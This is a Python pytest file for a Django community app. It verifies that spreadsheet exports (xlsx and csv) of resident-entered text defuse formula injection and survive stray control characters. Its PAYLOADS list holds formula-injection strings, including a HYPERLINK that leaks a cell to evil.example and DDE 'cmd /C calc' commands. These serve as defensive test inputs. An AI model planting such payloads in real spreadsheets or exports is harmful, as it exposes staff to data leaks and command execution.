"""What residents type cannot turn a staff member's spreadsheet against them, nor break it."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client

from tests.events.conftest import WHEN
from wulian.events import services as events
from wulian.lists import services
from wulian.lists import spreadsheets as lists_io
from wulian.lists.models import Need

# The probe's payloads: 4 of them ran as formulas in the .xlsx export, 7 in the .csv one.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _neutral(cell_text: str, payload: str) -> bool:
    """The cell is the payload behind an apostrophe: shown as typed, never run."""
    return cell_text.replace("\r\n", "\r").replace("\n", "\r") == "'" + payload.replace("\n", "\r")


def _raise(world, title: str, description: str = "") -> Need:
    need = services.raise_need(
        world["resident"],
        world.community,
        services.NeedInput(title=title, description=description, beneficiaries=12),
    )
    return services.publish_need(world["community_staff"], need)


@pytest.fixture
def hostile(world) -> list[Need]:
    return [_raise(world, payload, description=payload) for payload in PAYLOADS]


def test_every_xlsx_export_keeps_formulas_as_text_and_numbers_as_numbers(world, hostile):
    exported = lists_io.export_list(world["community_staff"], world.community, "needs", "xlsx")
    cells = _xlsx_cells(exported.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {str(c.value) for c in cells if c.column in (2, 3) and c.row > 1}
    for need in hostile:  # as stored: the title trimmed, the description as typed
        for stored in (need.title, need.description):
            assert any(_neutral(t, stored) for t in texts), stored
    beneficiaries = [c for c in cells if c.column == 7 and c.row > 1]
    assert {c.value for c in beneficiaries} == {12} and {c.data_type for c in beneficiaries} == {
        "n"
    }
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_every_csv_export_puts_an_apostrophe_before_a_formula(world, hostile):
    exported = lists_io.export_list(world["community_staff"], world.community, "needs", "csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    texts = [value for row in rows[1:] for value in row[1:3]]
    for need in hostile:
        assert "'" + need.title in texts and "'" + need.description in texts
    assert not [v for row in rows for v in row if v[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert {row[6] for row in rows[1:]} == {"12"}


def test_the_writers_neutralise_each_payload_as_typed():
    rows: list[list[lists_io.Cell]] = [["text", "number"]]
    rows += [[payload, -3] for payload in PAYLOADS]
    cells = _xlsx_cells(lists_io.render_xlsx(rows))
    written = [c for c in cells if c.row > 1]
    for payload, cell in zip(PAYLOADS, (c for c in written if c.column == 1), strict=True):
        assert cell.data_type == "s" and _neutral(cell.value, payload)
    assert {(c.value, c.data_type) for c in written if c.column == 2} == {(-3, "n")}
    text = lists_io.render_csv(rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[0] for row in read[1:]] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in read[1:]} == {"-3"}  # a number is not text to neutralise


def test_the_resources_and_projects_exports_are_neutralised_too(world, hostile):
    staff = world["community_staff"]
    for payload in PAYLOADS:
        services.create_resource(
            staff, world.community, services.ResourceInput(title=payload), provider_name=payload
        )
    services.claim_need(world["unit_contact"], hostile[0], organization=world.unit)
    for kind in ("resources", "projects"):
        xlsx = lists_io.export_list(staff, world.community, kind, "xlsx")
        assert not [c for c in _xlsx_cells(xlsx.content) if c.data_type == "f"]
        texts = [str(c.value) for c in _xlsx_cells(xlsx.content) if c.value is not None]
        assert not [t for t in texts if t[:1] in {"=", "+", "-", "@", "\t", "\r"}], kind
        data = lists_io.export_list(staff, world.community, kind, "csv").content
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert not [v for row in rows for v in row if v[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_the_event_report_xlsx_keeps_formulas_as_text(world, hostile):
    staff = world["community_staff"]
    event = events.create_event(
        staff, title="=1+1 发布会", starts_at=WHEN, place="@站", communities=[world.community]
    )
    events.add_needs(staff, event, hostile)
    event = events.open_event(staff, events.announce_event(staff, event))
    client = Client()
    client.force_login(staff)
    response = client.get(f"/events/{event.pk}/report.xlsx")
    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [str(c.value) for c in cells if isinstance(c.value, str)]
    assert "'=1+1 发布会" in texts
    assert not [t for t in texts if t[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert [c.value for c in cells if c.column == 1 and isinstance(c.value, int)]  # ids: numbers


def test_a_control_character_already_stored_does_not_break_the_exports(world):
    need = _raise(world, "楼道灯坏了", description="三楼四楼")
    Need.objects.filter(pk=need.pk).update(  # stored before input was cleaned
        title="楼道\x0b灯坏了",
        description="三楼\x0b四楼\x1f",  # PostgreSQL cannot even store \x00
    )
    client = Client()
    client.force_login(world["community_staff"])
    for file_format in ("xlsx", "csv"):
        response = client.get(
            f"/lists/communities/{world.community.pk}/export/needs/?format={file_format}"
        )
        assert response.status_code == 200, file_format
        content = response.content
        if file_format == "xlsx":
            texts = {str(c.value) for c in _xlsx_cells(content)}
        else:
            texts = {v for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for v in row}
        assert {"楼道灯坏了", "三楼四楼"} <= texts


def test_a_reader_of_traditional_script_gets_the_export_in_traditional_script(world):
    from django.conf import settings

    _raise(world, "楼道灯坏了", description="三楼到四楼没有灯")
    client = Client()
    client.force_login(world["community_staff"])
    url = f"/lists/communities/{world.community.pk}/export/needs/?format="
    simplified = {str(c.value) for c in _xlsx_cells(client.get(url + "xlsx").content)}
    assert "楼道灯坏了" in simplified
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hant"
    traditional = {str(c.value) for c in _xlsx_cells(client.get(url + "xlsx").content)}
    assert "樓道燈壞了" in traditional and "三樓到四樓沒有燈" in traditional
    rows = client.get(url + "csv").content.decode("utf-8-sig")
    assert "樓道燈壞了" in rows and "楼道灯坏了" not in rows
    assert Need.objects.get().title == "楼道灯坏了"  # what is stored never changes
